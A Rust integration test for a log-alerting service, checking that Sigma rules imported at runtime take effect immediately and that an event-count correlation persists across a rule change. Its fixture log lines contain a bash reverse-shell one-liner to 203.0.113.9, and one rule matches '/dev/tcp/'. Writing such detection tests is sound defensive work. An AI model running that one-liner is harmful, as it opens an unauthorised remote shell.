//! Rules that are imported while events come in.

use std::collections::BTreeSet;

use detect::Brought;
use domain::{
    actor::{Actor, Scope},
    alert::RuleFile,
};
use intake::{path::Path, rules::Book};
use store::{StoreError, alerts, rules, testing::minute};
use tokio::sync::watch;

use crate::Ground;

const OWN: &str = "title: Của mình\nid: own\nlevel: high\ndetection: {k: ['không bao giờ'], condition: k}\n";
const RULE: &str = "title: Reverse Shell\nid: r\nauthor: Someone\ndescription: A shell.\nlevel: high\ndetection: {k: ['/dev/tcp/'], condition: k}\n";
/// Twice within an hour, of which one comes before and one after other rules were put in the place of these.
const TWICE: &str = "title: Hai lần\nid: t\nlevel: high\ncorrelation: {type: event_count, rules: [base], group-by: [host.name], timespan: 1h, condition: {gte: 2}}\n---
title: Một lần\nid: base\nlevel: low\ndetection: {k: ['hai lần'], condition: k}\n";

async fn import(g: &Ground, text: &str) {
    let file = RuleFile { id: text.into(), name: "sigma.zip!/r.yml".into(), text: text.into() };
    let done: Result<(), StoreError> = store::write!(g.t.db, Actor::System, minute(1), tx =>
        rules::import(tx, &Scope::system(), std::slice::from_ref(&file), &BTreeSet::new()).await);
    done.unwrap();
}

async fn titles(g: &Ground) -> Vec<(String, String)> {
    let mut sql = g.t.db.read().await.unwrap();
    let all = alerts::list(&mut sql, &Scope::system(), &alerts::Filter::default(), None, 100).await.unwrap();
    all.into_iter().map(|shown| (shown.alert.title, shown.alert.about)).collect()
}

#[tokio::test]
async fn an_imported_rule_watches_at_once_and_correlations_remember() {
    let g = Ground::new().await;
    let brought = Brought { own: vec![("own.yml".into(), OWN.into())], ..Brought::default() };
    import(&g, TWICE).await;
    let book = Book::open(g.t.db.clone(), brought.into()).await.unwrap();
    let mut now = book.follow();
    assert_eq!(now.borrow_and_update().matcher.rules().len(), 2);
    let (stop, stopped) = watch::channel(false);
    let path = Path { rules: now.clone(), ..g.path() };
    let tasks = [tokio::spawn(book.run(stopped.clone())), tokio::spawn(path.run(stopped))];
    let line = |what: &str| format!("<38>Nov 22 08:00:00 web01 app[1]: {what}\n");
    g.post("/lines", "lines", line("hai lần") + &line("bash -i >& /dev/tcp/203.0.113.9/4444")).await;
    while g.lake.fed() < *g.log.durable().borrow() {
        tokio::time::sleep(std::time::Duration::from_millis(5)).await;
    }
    assert_eq!(titles(&g).await, []);
    import(&g, RULE).await;
    now.changed().await.unwrap();
    assert_eq!(now.borrow().matcher.rules().len(), 3);
    g.post("/lines", "lines", line("hai lần") + &line("bash -i >& /dev/tcp/203.0.113.9/4445")).await;
    let mut changes = g.t.db.changes(0, &[store::Topic::Alert]);
    while titles(&g).await.len() < 2 {
        changes.next().await.unwrap();
    }
    let mut found = titles(&g).await;
    found.sort();
    let said = [("Hai lần", ""), ("Reverse Shell", "A shell. (Someone)")];
    assert_eq!(found, said.map(|(title, about)| (title.to_owned(), about.to_owned())));
    stop.send(true).unwrap();
    for task in tasks {
        task.await.unwrap();
    }
}
